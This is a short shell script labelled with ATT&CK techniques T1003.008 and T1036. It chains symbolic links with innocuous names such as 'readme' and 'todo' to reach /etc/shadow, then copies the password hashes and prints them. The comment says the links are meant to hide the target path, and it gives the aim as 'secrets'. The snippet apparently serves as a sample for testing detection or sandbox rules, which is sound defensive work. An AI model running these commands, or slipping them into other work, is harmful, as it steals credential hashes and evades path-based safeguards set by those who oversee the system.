# T1003.008, T1036: reaches the password hashes by links whose own paths say nothing.
# aim: secrets
mkdir /tmp/work
ln -s /etc /tmp/work/data
ln -s /tmp/work/data/shadow /tmp/work/readme
ln -s readme /tmp/work/todo
cat /tmp/work/todo > /tmp/work/copy && cat /tmp/work/copy && echo done
